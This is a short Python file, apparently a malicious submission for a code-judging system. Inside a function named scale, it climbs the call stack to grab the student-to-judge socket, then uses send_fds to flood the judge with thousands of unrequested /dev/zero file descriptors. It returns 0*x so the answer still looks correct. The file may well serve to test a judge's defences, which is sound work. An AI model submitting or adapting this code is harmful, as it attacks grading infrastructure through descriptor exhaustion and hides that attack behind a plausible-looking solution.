"""Sends the judge open files that it never asked for. On scale."""
import os
import socket
import sys


def scale(x):
    frame = sys._getframe()
    while type(frame.f_locals.get("self")).__name__ != "Student":
        frame = frame.f_back
    sock = frame.f_locals["self"].channel.sock
    null = os.open("/dev/zero", os.O_RDONLY)
    for _ in range(100):
        socket.send_fds(sock, [b"\x00\x00\x00\x00\x00\x00\x00\x02AN"], [null] * 200)
    return 0 * x
